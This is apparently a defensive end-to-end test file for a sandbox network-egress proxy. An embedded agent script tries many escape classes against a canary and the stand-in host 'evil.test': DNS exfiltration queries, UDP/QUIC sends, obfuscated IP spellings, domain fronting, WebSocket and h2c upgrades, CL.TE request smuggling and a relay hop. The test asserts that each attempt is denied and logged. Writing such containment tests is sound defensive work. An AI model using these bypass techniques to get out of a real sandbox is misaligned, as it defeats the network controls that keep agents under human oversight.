"""The escape classes reported against sandbox egress layers, each tried by an agent in one
sandbox run (namespace and docker backends) against a listener this module runs (a canary at 10.214.5.2 and
fd99:5::2 in a namespace of its own, with forwarding on as on a routing machine). The stack maps
`evil.test` to that canary, so a request the proxy let through by name would reach it too.
Each attempt is denied (or goes nowhere), every request the proxy saw is recorded as denied,
and the canary, which is first shown to log what reaches it, sees nothing.
"""

import json
import socket
import subprocess
import time

import pytest

from detour.stack import Stack
from detour_core.paths import StatePaths
from mock_services.store import EnvironmentStore
from tests.conftest import ISOLATING, LiveStack, needs_namespaces
from tests.e2e.netlab import canary, forwarding, linked, namespace, seen

pytestmark = needs_namespaces

LISTENER, LISTENER6 = "10.214.5.2", "fd99:5::2"

AGENT = r'''
import base64, json, os, socket, subprocess, threading, urllib.parse

LISTENER, LISTENER6 = "%s", "%s"
PROXY = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
AUTH = "Proxy-Authorization: Basic " + base64.b64encode(f"{PROXY.username}:{PROXY.password}".encode()).decode()
out = {}


def statuses(data, via=(PROXY.hostname, PROXY.port)):
    """Send raw bytes (to the proxy, or to `via`); the status of every answer read until it closes."""
    try:
        s = socket.create_connection(via, timeout=5)
        s.sendall(data)
        got = b""
        while chunk := s.recv(65536):
            got += chunk
    except OSError as e:
        return type(e).__name__ if not got else [int(l.split()[1]) for l in got.split(b"\r\n") if l.startswith(b"HTTP/1.1 ")]
    return [int(l.split()[1]) for l in got.split(b"\r\n") if l.startswith(b"HTTP/1.1 ")]


def curl(*args):
    done = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%%{http_code}", "--max-time", "5", *args],
                          capture_output=True, text=True)
    return done.stdout


def connect(target, inner_host, auth=AUTH):
    """A CONNECT with a request pipelined behind it, in one write."""
    return (f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{auth}\r\n\r\n"
            f"GET / HTTP/1.1\r\nHost: {inner_host}\r\nConnection: close\r\n\r\n").encode()


def direct(family, address, port):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect((address, port))
            s.sendall(f"GET / HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n".encode())
            return s.recv(100).split(b"\r\n")[0].decode()
    except OSError as e:
        return type(e).__name__


# DNS that leaves before policy: a lookup, and a query sent straight at the listener.
try:
    out["dns lookup"] = socket.gethostbyname("exfil-data.evil.test")
except OSError as e:
    out["dns lookup"] = type(e).__name__
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05exfil\x04evil\x04test\x00\x00\x01\x00\x01"
dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
dns.settimeout(2)
dns.sendto(query, (LISTENER, 53))
try:
    out["dns to the listener"] = socket.inet_ntoa(dns.recv(512)[-4:])
except OSError as e:
    out["dns to the listener"] = type(e).__name__
# QUIC and other UDP.
for family, address in ((socket.AF_INET, LISTENER), (socket.AF_INET6, LISTENER6)):
    for port in (443, 5353):
        try:
            socket.socket(family, socket.SOCK_DGRAM).sendto(b"\xc3\x00\x00\x00\x01" + b"\x00" * 1200, (address, port))
            out[f"udp {address} {port}"] = "sent"
        except OSError as e:
            out[f"udp {address} {port}"] = type(e).__name__
# IPv6 and IPv4-mapped IPv6, direct and through the proxy.
out["ipv6 direct"] = direct(socket.AF_INET6, LISTENER6, 80)
out["ipv4-mapped direct"] = direct(socket.AF_INET6, "::ffff:" + LISTENER, 80)
out["ipv6 via proxy"] = curl("-g", "-x", os.environ["HTTP_PROXY"], f"http://[{LISTENER6}]/")
out["ipv4-mapped via proxy"] = curl("-g", "-x", os.environ["HTTP_PROXY"], f"http://[::ffff:{LISTENER}]/")
# CONNECT to an IP literal, in several spellings, with the inner Host naming it too.
for target in (f"{LISTENER}:443", "0x0ad60502:443", "012.0326.05.02:443", "181798146:443", f"[::ffff:{LISTENER}]:443"):
    out[f"connect {target}"] = statuses(connect(target, target.rsplit(":", 1)[0]))
out["absolute-form octal"] = statuses(f"GET http://012.0326.05.02/ HTTP/1.1\r\nHost: 012.0326.05.02\r\n{AUTH}\r\n"
                                      "Connection: close\r\n\r\n".encode())
# CONNECT authority, SNI and Host disagreeing (domain fronting), and a replicated name's tunnel
# followed by another SNI.
out["host differs from connect"] = curl("-x", os.environ["HTTPS_PROXY"], "-H", "Host: evil.test",
                                        "https://slack.com/api/auth.test")
out["sni differs from connect"] = curl("-x", os.environ["HTTPS_PROXY"], "--connect-to", "evil.test:443:slack.com:443",
                                       "https://evil.test/")
# A WebSocket upgrade sent on to another host than the tunnel's.
out["websocket upgrade to another host"] = curl(
    "-x", os.environ["HTTPS_PROXY"], "-H", "Host: evil.test", "-H", "Upgrade: websocket", "-H", "Connection: Upgrade",
    "-H", "Sec-WebSocket-Version: 13", "-H", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "https://slack.com/ws")
# Request smuggling around a refused CONNECT: a wrong password, a request pipelined behind it;
# a denied host's tunnel, a request pipelined behind it; a body that hides a second request.
out["smuggled behind a 407"] = statuses(connect("evil.test:80", "evil.test", "Proxy-Authorization: Basic ZTpu"))
out["smuggled behind a denied tunnel"] = statuses(connect("evil.test:80", "evil.test"))
hidden = "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
out["cl.te smuggling"] = statuses((
    f"POST http://slack.com/api/api.test HTTP/1.1\r\nHost: slack.com\r\n{AUTH}\r\nContent-Length: 4\r\n"
    f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}").encode())
# HTTP/2 in a tunnel, and an h2c upgrade in the clear.
out["h2 to a denied host"] = curl("--http2", "-x", os.environ["HTTPS_PROXY"], "https://evil.test/")
out["h2c upgrade"] = curl("--http2", "-x", os.environ["HTTP_PROXY"], "http://evil.test/")
out["h2c upgrade, host differs"] = curl("--http2", "-x", os.environ["HTTP_PROXY"], "-H", "Host: evil.test",
                                        "http://slack.com/api/api.test")
# Absolute-form requests whose Host differs from their URL.
out["absolute-form, other host"] = statuses((f"GET http://slack.com/api/api.test HTTP/1.1\r\nHost: evil.test\r\n{AUTH}\r\n"
                                             "Connection: close\r\n\r\n").encode())
# CONNECT relayed through a second hop inside the sandbox.
relay = socket.create_server(("127.0.0.1", 0))


def forward():
    client, _ = relay.accept()
    upstream = socket.create_connection((PROXY.hostname, PROXY.port))
    threading.Thread(target=lambda: [upstream.sendall(c) for c in iter(lambda: client.recv(65536), b"")],
                     daemon=True).start()
    for chunk in iter(lambda: upstream.recv(65536), b""):
        client.sendall(chunk)
    client.close()


threading.Thread(target=forward, daemon=True).start()
out["connect through a relay"] = statuses(connect("evil.test:443", "evil.test"), via=relay.getsockname())
print(json.dumps(out))
''' % (LISTENER, LISTENER6)

EXPECTED = {
    "ipv6 via proxy": "403", "ipv4-mapped via proxy": "403",
    **{f"connect {t}": [200, 403] for t in (f"{LISTENER}:443", "0x0ad60502:443", "012.0326.05.02:443",
                                            "181798146:443", f"[::ffff:{LISTENER}]:443")},
    "absolute-form octal": [403],
    "host differs from connect": "403", "sni differs from connect": "403",
    "websocket upgrade to another host": "403",
    "smuggled behind a 407": [407], "smuggled behind a denied tunnel": [200, 403],
    "h2 to a denied host": "403", "h2c upgrade": "403", "h2c upgrade, host differs": "403",
    "absolute-form, other host": [403], "connect through a relay": [200, 403],
}


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    """The listener in its namespace, first shown to log a connection from the host, and a stack
    that would send `evil.test` to it."""
    root = tmp_path_factory.mktemp("escapes")
    log = root / "listener.log"
    state = StatePaths(root / "home").ensure()
    scripts = root / "scripts"
    scripts.mkdir()
    with forwarding(), namespace() as ns, linked(ns, "10.214.5.1", LISTENER, "fd99:5::1", LISTENER6), \
            canary(ns, log, "--dns", "0.0.0.0:53", "--udp", "0.0.0.0:443", "--udp", "0.0.0.0:5353",
                   "--udp", "[::]:443", "--udp", "[::]:5353",
                   *[arg for port in (80, 443) for arg in ("--tcp", f"0.0.0.0:{port}", "--tcp", f"[::]:{port}")]):
        socket.create_connection((LISTENER, 80), timeout=3).close()
        for _ in range(100):
            if seen(log):
                break
            time.sleep(0.05)
        assert seen(log), "the listener logs what reaches it"
        with Stack(state, upstream_hosts={"evil.test": LISTENER}) as info:
            yield LiveStack(state, info, EnvironmentStore(state), scripts), log


@pytest.mark.parametrize("backend", ISOLATING)
def test_every_escape_class_is_denied_recorded_and_reaches_nothing(lab, backend):
    stack, log = lab
    before = len(seen(log))
    result = stack.run(stack.env(), AGENT, ".py", backend=backend)
    assert result.exit_code == 0, result.stderr
    out = json.loads(result.stdout)
    assert {case: out[case] for case in EXPECTED} == EXPECTED
    assert out["dns lookup"].startswith("10.213.") or out["dns lookup"] == "gaierror"  # detour's resolver at most
    assert out["dns to the listener"].startswith("10.213.")  # detour's resolver answered, not the listener
    assert not any(out[case].startswith("HTTP/1.1 2") for case in ("ipv6 direct", "ipv4-mapped direct"))
    records = result.requests
    # only the smuggling case's own POST may reach a replica; nothing is passed through
    assert records and not [(r.decision, r.host, r.path) for r in records if r.decision == "allowed"
                            or (r.decision == "routed" and (r.host, r.method) != ("slack.com", "POST"))]
    reasons = " ".join(r.reason or "" for r in records)
    assert "host mismatch" in reasons and "address-only" in reasons
    assert {r.host for r in records if "address-only" in (r.reason or "")} == {LISTENER, LISTENER6}  # one spelling
    assert not [r for r in records if r.host == "evil.test" and r.decision != "denied"]
    time.sleep(0.5)  # the canary logs a datagram as it comes; give the last ones their moment
    assert seen(log)[before:] == []
